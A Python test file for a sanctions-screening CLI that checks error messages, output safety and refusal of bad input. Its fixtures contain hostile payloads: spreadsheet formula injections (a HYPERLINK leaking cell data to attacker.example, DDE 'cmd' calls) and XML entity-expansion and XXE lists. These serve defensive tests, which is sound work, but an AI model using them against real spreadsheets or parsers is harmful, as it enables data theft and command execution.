"""Bad input and operator experience across the CLI.

Every refusal is one line ``error: <file>: <problem> — <fix>`` on stderr, with a
non-zero exit, no traceback (unless ``--debug``) and no partial output. Most cases
fail before the lists and the language model are loaded, so they are quick; only three
invocations here load the screening engine.
"""

from __future__ import annotations

import io
import json
import os
import re
import stat
import zipfile
from pathlib import Path

import click
import pytest
from click.testing import CliRunner, Result

from travelban.cli import cli
from travelban.errors import ExitCode, ReportError
from travelban.ingest import read_articles
from travelban.report.paths import check_destination, ensure_folder

ROOT = Path(__file__).resolve().parents[1]
EXAMPLE = ROOT / "examples" / "soleimani-moscow.txt"
NEWEST = ROOT / "lists" / "un-consolidated-2026-05-08.xml"

# One line per message: "error: <source>: <problem> — <fix>".
ONE_LINE_ERROR = re.compile(r"^error: (?P<source>[^:]+): (?P<problem>.+) — (?P<fix>.+)$")

# A short article of our own whose lines a spreadsheet could take for formulas.
FORMULA_ARTICLE = """\
=HYPERLINK("http://attacker.example/?leak="&A1,"Open the source")
+cmd|' /C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
-2+3
=SUM(A1:A9) said Qassem Soleimani, the commander of the Quds Force, flew to Baghdad on
March 8, 2015.
"""

NO_PEOPLE_ARTICLE = """\
Dry spring worries growers in the valley

Rainfall this spring was the lowest in two decades. Growers expect a smaller harvest
and wholesale prices rose slightly in the regional markets.
"""

HOSTILE_LISTS = {
    "billion-laughs.xml": (
        '<?xml version="1.0"?>\n<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;">'
        '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>\n'
        '<CONSOLIDATED_LIST dateGenerated="2026-01-01T00:00:00Z"><INDIVIDUALS><INDIVIDUAL>'
        "<FIRST_NAME>&c;</FIRST_NAME></INDIVIDUAL></INDIVIDUALS></CONSOLIDATED_LIST>\n"
    ),
    "xxe.xml": (
        '<?xml version="1.0"?>\n<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'
        '<CONSOLIDATED_LIST dateGenerated="2026-01-01T00:00:00Z"><INDIVIDUALS><INDIVIDUAL>'
        "<FIRST_NAME>&x;</FIRST_NAME></INDIVIDUAL></INDIVIDUALS></CONSOLIDATED_LIST>\n"
    ),
    "wrong-root.xml": '<?xml version="1.0"?>\n<html><body>not a list</body></html>\n',
    "empty.xml": "",
}


def run(*args: str, stdin: bytes | None = None) -> Result:
    """Invoke the CLI as an operator would (click renders usage errors itself)."""
    return CliRunner().invoke(cli, list(args), input=stdin, catch_exceptions=False)


def error_lines(result: Result) -> list[str]:
    return [ln for ln in result.stderr.splitlines() if ln.startswith("error:")]


def assert_no_traceback(result: Result) -> None:
    assert "Traceback" not in result.output, result.output


def make_bad_articles(folder: Path) -> dict[str, Path]:
    """One file per kind of unreadable article named in the issues."""
    folder.mkdir(parents=True, exist_ok=True)
    files = {
        "empty": folder / "empty.txt",
        "binary": folder / "binary.txt",
        "undecodable": folder / "undecodable.txt",
        "no-text-html": folder / "no-text.html",
        "too-large": folder / "huge.txt",
    }
    files["empty"].write_bytes(b"")
    files["binary"].write_bytes(bytes(range(256)) * 8)
    # bytes cp1252 leaves undefined and latin-1 turns into control characters
    files["undecodable"].write_bytes(b"caf\xe9 " + b"\x81\x8d\x8f\x90\x9d" * 4 + b" text")
    files["no-text-html"].write_text(
        "<html><head><title></title><script>var a = 1;</script></head>"
        "<body><nav>Home | World</nav><footer>(c) 2026</footer></body></html>",
        encoding="utf-8",
    )
    with files["too-large"].open("wb") as fh:  # sparse: 21 MB without writing them
        fh.truncate(21 * 1024 * 1024)
    return files


# ---------------------------------------------------------------- ingest, directly


def test_each_unreadable_article_gets_its_own_reason(tmp_path: Path) -> None:
    files = make_bad_articles(tmp_path / "in")
    (tmp_path / "nothing-here").mkdir()
    (tmp_path / "nothing-here" / "notes.docx").write_bytes(b"PK\x03\x04")
    articles, failures = read_articles(
        [
            *(str(p) for p in files.values()),
            str(tmp_path / "gone.txt"),
            str(tmp_path / "nothing-here"),
        ]
    )
    assert articles == ()
    reasons = {Path(f.source).name: f.error for f in failures}
    assert "empty" in reasons["empty.txt"]
    assert "binary" in reasons["binary.txt"]
    assert "cannot decode" in reasons["undecodable.txt"]
    assert "no readable text" in reasons["no-text.html"]
    assert "too large" in reasons["huge.txt"] and "20 MB" in reasons["huge.txt"]
    assert "no such file" in reasons["gone.txt"]
    assert "holds no articles" in reasons["nothing-here"]
    for f in failures:
        assert " — " in f.error, f  # every reason says the fix
        assert f.source not in f.error, f  # the source is not said twice
        assert "\n" not in f.error


def test_a_reader_crash_is_a_listed_failure_not_a_lost_batch(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import travelban.ingest as ingest

    good = tmp_path / "good.txt"
    good.write_text(NO_PEOPLE_ARTICLE, encoding="utf-8")
    odd = tmp_path / "odd.txt"
    odd.write_text("Trigger text for the injected fault.", encoding="utf-8")
    real = ingest.parse_bytes

    def flaky(source: str, data: bytes, **kw: object) -> object:
        if source.endswith("odd.txt"):
            raise RecursionError("injected")
        return real(source, data, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(ingest, "parse_bytes", flaky)
    articles, failures = read_articles([str(good), str(odd)])
    assert [Path(a.source).name for a in articles] == ["good.txt"]
    (failure,) = failures
    assert failure.source == str(odd)
    assert "RecursionError" in failure.error and "bug" in failure.error


# ---------------------------------------------------------------- report destinations


def test_destination_checks_create_nothing(tmp_path: Path) -> None:
    blocker = tmp_path / "blocker"
    blocker.write_text("an analyst's notes", encoding="utf-8")
    with pytest.raises(ReportError, match="blocker is a file"):
        check_destination(blocker / "sub" / "deeper", ".xlsx")
    with pytest.raises(ReportError, match="already exists"):
        check_destination(blocker, ".xlsx")
    with pytest.raises(ReportError, match=r"cannot be written to a '\.txt' file"):
        check_destination(tmp_path / "report.txt", ".xlsx")
    with pytest.raises(ReportError, match="needs a folder"):
        check_destination(tmp_path / "report.csv", ".csv", folder_only=True)
    check_destination(tmp_path / "new" / "folder", ".xlsx")  # fine, and not created yet
    check_destination(tmp_path / "new" / "r.json", ".json")
    assert not (tmp_path / "new").exists()
    assert blocker.read_text(encoding="utf-8") == "an analyst's notes"
    with pytest.raises(ReportError, match="a file of that name is in the way"):
        ensure_folder(blocker)


# ---------------------------------------------------------------- screen: refused early


def test_no_readable_article_writes_nothing_and_exits_1(tmp_path: Path) -> None:
    files = make_bad_articles(tmp_path / "in")
    out = tmp_path / "reports" / "run.json"
    result = run(
        "screen",
        *(str(p) for p in files.values()),
        str(tmp_path / "missing.txt"),
        "--format",
        "json",
        "-o",
        str(out),
    )
    assert result.exit_code == ExitCode.ERROR
    assert_no_traceback(result)
    assert result.stdout == ""
    assert not (tmp_path / "reports").exists()  # not even the folder
    lines = error_lines(result)
    assert len(lines) == len(files) + 2  # one per file, one for the whole request
    for line in lines[:-1]:
        m = ONE_LINE_ERROR.match(line)
        assert m, line
        assert m["source"].startswith(str(tmp_path)), line
        assert m["source"] not in m["problem"], line  # the file is named once
    assert "no article could be read" in lines[-1] and "nothing written" in lines[-1]


def test_binary_bytes_on_stdin(tmp_path: Path) -> None:
    result = run("screen", "-", "--format", "json", stdin=b"\x00\x01\x02\xff\xfe" * 200)
    assert result.exit_code == ExitCode.ERROR
    assert_no_traceback(result)
    assert result.stdout == ""
    first = error_lines(result)[0]
    assert first.startswith("error: <stdin>: binary file") and " — " in first


def test_existing_output_file_is_refused_and_untouched(tmp_path: Path) -> None:
    existing = tmp_path / "review.xlsx"
    existing.write_bytes(b"the analyst's workbook")
    before = existing.stat().st_mtime_ns
    result = run("screen", str(EXAMPLE), "-o", str(existing))
    assert result.exit_code == ExitCode.ERROR
    assert_no_traceback(result)
    (line,) = error_lines(result)
    assert ONE_LINE_ERROR.match(line) and "already exists" in line and "never overwrites" in line
    assert existing.read_bytes() == b"the analyst's workbook"
    assert existing.stat().st_mtime_ns == before
    assert sorted(p.name for p in tmp_path.iterdir()) == ["review.xlsx"]  # no temp file left


def test_unwritable_output_folder_is_refused(tmp_path: Path) -> None:
    # Tests may run as root, who can write anywhere: a file in the way stands in for it.
    (tmp_path / "blocker").write_text("x", encoding="utf-8")
    result = run("screen", str(EXAMPLE), "--format", "csv", "-o", str(tmp_path / "blocker" / "out"))
    assert result.exit_code == ExitCode.ERROR
    assert_no_traceback(result)
    (line,) = error_lines(result)
    assert ONE_LINE_ERROR.match(line) and "blocker is a file" in line
    assert (tmp_path / "blocker").read_text(encoding="utf-8") == "x"


def test_stdout_dash_only_for_json(tmp_path: Path) -> None:
    result = run("screen", str(EXAMPLE), "--format", "xlsx", "-o", "-")
    assert result.exit_code == ExitCode.USAGE
    assert "works only with --format json" in result.stderr
    assert not Path("-").exists()


@pytest.mark.parametrize(
    ("args", "option"),
    [
        (["screen", "x.txt", "--published", "16/12/2015"], "--published"),
        (["screen", "x.txt", "--as-of", "2015-02-30"], "--as-of"),
        (["lists", "show", "--as-of", "yesterday"], "--as-of"),
        (["events", "x.txt", "--published", "2015-13-01"], "--published"),
    ],
)
def test_invalid_dates_are_usage_errors(args: list[str], option: str) -> None:
    result = run(*args)
    assert result.exit_code == ExitCode.USAGE
    assert f"Invalid value for '{option}'" in result.stderr
    assert "YYYY-MM-DD" in result.stderr
    assert_no_traceback(result)


@pytest.mark.parametrize("name", sorted(HOSTILE_LISTS))
def test_hostile_or_broken_list_is_refused_by_lists_show(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_text(HOSTILE_LISTS[name], encoding="utf-8")
    result = run("lists", "show", "--list", str(path))
    assert result.exit_code == ExitCode.ERROR
    assert_no_traceback(result)
    (line,) = error_lines(result)
    m = ONE_LINE_ERROR.match(line)
    assert m and m["source"] == str(path), line
    assert result.stdout == ""  # nothing half-loaded is shown


def test_truncated_list_is_refused_and_never_imported(tmp_path: Path) -> None:
    truncated = tmp_path / "cut.xml"
    truncated.write_bytes(NEWEST.read_bytes()[:150_000])
    lists_dir = tmp_path / "lists"
    lists_dir.mkdir()
    result = run("lists", "import", str(truncated), "--lists-dir", str(lists_dir))
    assert result.exit_code == ExitCode.ERROR
    (line,) = error_lines(result)
    assert "truncated" in line and ONE_LINE_ERROR.match(line)
    assert list(lists_dir.iterdir()) == []  # no file, no manifest, no temp file


def test_screen_with_hostile_list_fails_cleanly(tmp_path: Path) -> None:
    bomb = tmp_path / "bomb.xml"
    bomb.write_text(HOSTILE_LISTS["billion-laughs.xml"], encoding="utf-8")
    out = tmp_path / "out"
    result = run("screen", str(EXAMPLE), "--list", str(bomb), "-o", str(out))
    assert result.exit_code == ExitCode.ERROR
    assert_no_traceback(result)
    (line,) = error_lines(result)
    assert line.startswith(f"error: {bomb}: refused unsafe XML")
    assert not out.exists()


def test_unknown_download_scheme_and_empty_reference(tmp_path: Path) -> None:
    result = run(
        "lists", "update", "--from", "ftp://example.org/l.xml", "--lists-dir", str(tmp_path)
    )
    assert result.exit_code == ExitCode.ERROR
    (line,) = error_lines(result)
    assert line.startswith("error: ftp://example.org/l.xml: only http:// and https://")
    assert list(tmp_path.iterdir()) == []
    result = run("lists", "entry", "   ")
    assert result.exit_code == ExitCode.USAGE
    assert "the reference is empty" in result.stderr


# ---------------------------------------------------------------- unexpected failures


def test_unexpected_exception_is_one_line_saying_bug(monkeypatch: pytest.MonkeyPatch) -> None:
    import travelban.cli.lists_cmd as lists_cmd

    def broken(*_a: object, **_k: object) -> None:
        raise ZeroDivisionError("injected fault")

    monkeypatch.setattr(lists_cmd, "chosen_list", broken)
    result = CliRunner().invoke(cli, ["lists", "show"])
    assert result.exit_code == ExitCode.ERROR
    assert result.stderr.strip().splitlines() == [result.stderr.strip()]  # exactly one line
    assert "unexpected ZeroDivisionError: injected fault" in result.stderr
    assert "bug" in result.stderr and "--debug" in result.stderr
    assert_no_traceback(result)
    # with --debug the exception (and so its traceback) comes through
    debug = CliRunner().invoke(cli, ["--debug", "lists", "show"])
    assert isinstance(debug.exception, ZeroDivisionError)


def test_os_error_names_the_file(monkeypatch: pytest.MonkeyPatch) -> None:
    import travelban.cli.lists_cmd as lists_cmd

    def denied(*_a: object, **_k: object) -> None:
        raise PermissionError(13, "Permission denied", "/srv/lists/manifest.json")

    monkeypatch.setattr(lists_cmd, "chosen_list", denied)
    result = CliRunner().invoke(cli, ["lists", "show"])
    assert result.exit_code == ExitCode.ERROR
    (line,) = error_lines(result)
    assert ONE_LINE_ERROR.match(line) and "/srv/lists/manifest.json: Permission denied" in line


def test_ctrl_c_exits_130(monkeypatch: pytest.MonkeyPatch) -> None:
    import travelban.cli.lists_cmd as lists_cmd

    def interrupted(*_a: object, **_k: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(lists_cmd, "chosen_list", interrupted)
    result = CliRunner().invoke(cli, ["lists", "show"])
    assert result.exit_code == 130
    assert result.stderr.strip() == "interrupted"


# ---------------------------------------------------------------- screen: the engine runs


@pytest.mark.slow
def test_mixed_batch_screens_good_files_and_lists_failures(tmp_path: Path) -> None:
    folder = tmp_path / "inbox"
    bad = make_bad_articles(folder)
    (folder / "good.txt").write_bytes(EXAMPLE.read_bytes())
    (tmp_path / "empty-folder").mkdir()
    out = tmp_path / "run.json"
    result = run(
        "screen", str(folder), str(tmp_path / "missing.txt"), str(tmp_path / "empty-folder"),
        "--format", "json", "-o", str(out),
    )  # fmt: skip
    assert result.exit_code == ExitCode.ERROR  # failures among several articles
    assert_no_traceback(result)
    lines = error_lines(result)
    assert len(lines) == len(bad) + 2
    assert all(ONE_LINE_ERROR.match(ln) for ln in lines), lines
    doc = json.loads(out.read_text(encoding="utf-8"))
    assert doc["counts"]["articles"] == 1
    assert doc["counts"]["articles_failed"] == len(bad) + 2
    failed = {Path(a["source"]).name: a for a in doc["articles"] if a["status"] == "failed"}
    assert set(failed) == {p.name for p in bad.values()} | {"missing.txt", "empty-folder"}
    assert all(a["error"] for a in failed.values())
    breaches = [f for f in doc["findings"] if f["verdict"] == "apparent_breach"]
    assert len(breaches) == 3  # the good article was screened in full
    assert "1 article(s), 7 failed" in result.stderr


@pytest.mark.slow
def test_formula_text_never_becomes_a_formula(tmp_path: Path) -> None:
    (tmp_path / "formula.txt").write_text(FORMULA_ARTICLE, encoding="utf-8")
    (tmp_path / "quiet.txt").write_text(NO_PEOPLE_ARTICLE, encoding="utf-8")
    out = tmp_path / "not" / "yet" / "there"
    result = run(
        "screen", str(tmp_path / "formula.txt"), str(tmp_path / "quiet.txt"), "-o", str(out)
    )
    assert result.exit_code == ExitCode.OK, result.output
    (book,) = out.iterdir()  # folder created; one workbook, no temp file
    assert book.suffix == ".xlsx"
    umask = os.umask(0o022)
    os.umask(umask)
    assert stat.S_IMODE(book.stat().st_mode) == 0o666 & ~umask  # not a private 0600 file
    with zipfile.ZipFile(book) as zf:
        sheets = {n: zf.read(n).decode("utf-8") for n in zf.namelist() if "worksheets/sheet" in n}
    assert sheets
    every = "".join(sheets.values())
    assert "<f>" not in every and "<f " not in every  # no formula anywhere
    # the evidence quote starts with "=HYPERLINK(": it is there, stored as an inline string
    risky = re.findall(r'<c [^>]*t="inlineStr"[^>]*><is><t[^>]*>=HYPERLINK\(', every)
    assert risky, "the formula-like evidence should be in the workbook as text"
    import openpyxl

    wb = openpyxl.load_workbook(book)
    articles = {r[0]: r for r in wb["Articles"].iter_rows(min_row=2, values_only=True)}
    assert set(articles) == {str(tmp_path / "formula.txt"), str(tmp_path / "quiet.txt")}
    quiet = articles[str(tmp_path / "quiet.txt")]
    assert quiet[5] == "processed"  # an article with no people is processed, not dropped
    found = [r for r in wb["Findings"].iter_rows(min_row=2, values_only=True) if r[0]]
    assert found, "Soleimani's flight to Baghdad should be a finding"
    formula_like = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    formula_like += 1
                    # quote prefix: an analyst editing the cell does not turn it into a formula
                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
    assert formula_like >= 2  # the evidence in Findings and in Events at least


@pytest.mark.slow
def test_stdin_with_as_of_before_every_snapshot() -> None:
    result = run(
        "screen", "-", "--as-of", "2001-01-01", "--format", "json", "-o", "-",
        stdin=EXAMPLE.read_bytes(),
    )  # fmt: skip
    assert result.exit_code == ExitCode.OK, result.stderr
    doc = json.loads(result.stdout)
    assert [a["source"] for a in doc["articles"]] == ["<stdin>"]
    assert [Path(s["file"]).name for s in doc["snapshots"]] == ["un-consolidated-2015-03-27.xml"]
    assert "precedes every list snapshot" in doc["extra"]["warning"]
    assert "using the oldest" in doc["extra"]["warning"]


# ---------------------------------------------------------------- help


def _commands(group: click.Group, prefix: str = "") -> list[tuple[str, click.Command]]:
    out: list[tuple[str, click.Command]] = []
    for name, cmd in sorted(group.commands.items()):
        out.append((f"{prefix}{name}", cmd))
        if isinstance(cmd, click.Group):
            out.extend(_commands(cmd, f"{prefix}{name} "))
    return out


COMMANDS = _commands(cli)


def test_the_command_tree_is_found() -> None:
    names = {n for n, _ in COMMANDS}
    assert {"screen", "events", "match", "lists", "lists show", "lists import"} <= names


@pytest.mark.parametrize(("name", "command"), COMMANDS, ids=[n for n, _ in COMMANDS])
def test_every_command_has_help_with_an_example(name: str, command: click.Command) -> None:
    doc = command.help or ""
    assert doc.strip(), f"`travelban {name}` has no help"
    assert "\b" in doc, f"`travelban {name}` help has no \\b example block"
    block = doc.split("\b", 1)[1]
    assert re.search(r"^\s*Examples?:", block, re.M), f"`travelban {name}`: no Example heading"
    assert f"travelban {name}" in block, f"`travelban {name}`: the example does not show it"
    result = run(*name.split(), "--help")
    assert result.exit_code == 0
    assert f"travelban {name}" in result.stdout


def test_root_help_has_an_example() -> None:
    assert "\b" in (cli.help or "") and "travelban screen" in (cli.help or "")


def test_io_stdin_is_not_read_when_no_dash_is_given(tmp_path: Path) -> None:
    # a folder with no articles: the command must not hang waiting on stdin
    (tmp_path / "nothing").mkdir()
    stream = io.BytesIO(b"should not be read")
    articles, failures = read_articles([str(tmp_path / "nothing")], stdin=stream)
    assert articles == () and len(failures) == 1
    assert stream.tell() == 0
